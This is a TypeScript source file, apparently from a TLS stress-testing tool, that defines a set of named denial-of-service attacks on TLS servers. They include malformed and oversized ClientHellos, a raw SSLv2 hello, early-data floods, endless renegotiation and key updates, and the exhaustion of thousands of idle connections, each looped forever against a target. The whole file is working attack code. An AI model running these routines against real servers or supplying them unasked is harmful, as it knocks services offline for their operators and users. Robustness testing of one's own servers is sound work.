import { ClientHelloMessage } from '@latchkey/load';
import { type Attack, openRaw, repeatForEver, sayNothing, type Target } from './attack.js';
import { renegotiate, updateKeys } from './handshake-messages.js';

/** By the names under which they are reported. Anybody can make them. */
export const EDGE_ATTACKS = {
  'ClientHellos in records of 1 byte': knockWith((hello) => hello.records({ recordLength: 1 })),
  'ClientHellos of 64 kB': knockWith((hello) => hello.recordsOfLength(65_536)),
  'ClientHellos of 0 cipher suites': knockWith((hello) => hello.withCipherSuites([]).records()),
  'ClientHellos of 500 cipher suites': knockWith((hello) => hello.withMoreCipherSuites(500).records()),
  'ClientHellos of SSLv2': knockWith(() =>
    Buffer.from('801e0100020015000000100100800200800300800400800500800600400700c0', 'hex'),
  ),
  'plain HTTP': knockWith((_, { servername }) =>
    Buffer.from(`GET / HTTP/1.1\r\nhost: ${servername}\r\n\r\n`),
  ),
  'early data': knockWith((hello) =>
    Buffer.concat([hello.withEarlyData().records(), applicationData(10_000)]),
  ),
  'renegotiation without end': renegotiate,
  'key updates without end': updateKeys,
  '10,000 connections that say nothing': holdConnections,
  'connections that say nothing, 1,000 a second': sayNothing,
} as const satisfies Readonly<Record<string, Attack>>;

/** Connects, sends these bytes, and leaves as soon as anything comes back. */
function knockWith(makeBytes: (hello: ClientHelloMessage, target: Target) => Buffer): Attack {
  return async (target) => {
    const bytes = makeBytes(await ClientHelloMessage.capture(target), target);
    await repeatForEver(async () => {
      const socket = await openRaw(target);
      const isAnswered = new Promise((resolve) => socket.once('data', resolve).once('close', resolve));
      socket.write(bytes);
      await isAnswered;
      // A port that waits for stragglers could not be used again for a minute.
      socket.resetAndDestroy();
    });
  };
}

/** Less than what ends a connection that was to have none. */
function applicationData(length: number): Buffer {
  return Buffer.concat([Buffer.of(0x17, 0x03, 0x03, length >> 8, length & 0xff), Buffer.alloc(length, 7)]);
}

async function holdConnections(target: Target): Promise<void> {
  for (let opened = 0; opened < 10_000; opened += 100)
    await Promise.all(Array.from({ length: 100 }, () => openRaw(target)));
}
